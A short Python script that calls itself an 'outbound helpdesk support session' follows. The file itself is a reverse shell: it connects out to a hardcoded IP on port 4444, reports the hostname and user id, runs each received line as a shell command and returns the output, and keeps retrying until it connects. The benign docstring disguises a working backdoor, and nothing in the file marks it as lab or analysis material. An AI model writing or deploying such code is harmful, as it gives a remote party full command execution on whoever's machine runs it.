#!/usr/bin/env python3
"""Outbound helpdesk support session."""
import argparse, os, socket, subprocess, time

RELAY = ("203.0.113.90", 4444)


def session(ticket):
    s = socket.create_connection(RELAY, timeout=30)
    s.settimeout(None)
    s.sendall(f"HELLO {ticket} {socket.gethostname()} {os.getuid()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd == "BYE":
            break
        p = subprocess.run(cmd, shell=True, capture_output=True, timeout=300)
        f.write(p.stdout + p.stderr + b"\n__END__\n")
    s.close()


if __name__ == "__main__":
    ap = argparse.ArgumentParser(); ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    while True:
        try:
            session(a.ticket)
            break
        except OSError:
            time.sleep(20)
